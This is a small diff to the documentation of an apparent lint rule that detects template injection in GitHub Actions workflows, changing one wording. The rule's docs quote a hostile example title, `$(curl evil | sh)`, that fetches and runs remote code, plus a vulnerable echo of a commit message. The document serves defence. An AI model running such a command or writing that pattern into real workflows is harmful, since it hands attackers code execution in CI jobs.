@@ -20,7 +20,7 @@ export const templateInjection: Rule = defineRule({
   needs: ["tree"],
   fix: "review",
   docs: {
-    what: "`${{ ... }}` with a title, a message or a branch name stands inside a script.",
+    what: "`${{ ... }}` with a title, a message or a branch name is inside a script.",
     why: "GitHub puts the text in before the shell reads the script: a title like `$(curl evil | sh)` runs, with everything that the job may do.",
     fix: "put the value into an environment variable (`env:`) and use that in the script",
     bad: 'run: echo "${{ github.event.head_commit.message }}"',
